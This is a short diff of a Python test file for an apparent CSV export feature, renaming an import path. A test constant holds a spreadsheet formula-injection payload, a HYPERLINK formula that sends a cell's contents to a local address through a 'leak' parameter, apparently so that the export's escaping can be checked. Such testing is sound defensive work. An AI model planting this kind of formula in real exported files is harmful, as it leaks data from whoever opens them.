@@ -10,7 +10,7 @@ from decimal import Decimal
 
 import pytest
 
-from dealroom.protocol.study import EventRow
+from dealroom.protocol.study_rows import EventRow
 from dealroom.server.study_export import csv_text
 
 LIVE = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click me")'
